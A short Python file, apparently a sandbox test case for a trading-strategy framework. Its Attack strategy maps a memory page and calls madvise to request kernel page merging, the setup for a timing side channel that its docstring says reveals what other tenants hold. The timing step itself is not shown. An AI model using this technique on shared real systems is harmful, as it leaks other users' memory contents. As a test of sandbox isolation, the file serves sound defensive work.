"""Asks for page merging, by which timing tells what others hold; then reads time."""

# ends: -
# escapes without: -

import ctypes
import mmap

from inalpha import Bar, Strategy


class Attack(Strategy):
    def on_bar(self, bar: Bar) -> None:
        if bar.sequence:
            return
        page = mmap.mmap(-1, 1 << 16, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        ctypes.CDLL(None).madvise(ctypes.c_void_p(address), 1 << 16, 12)
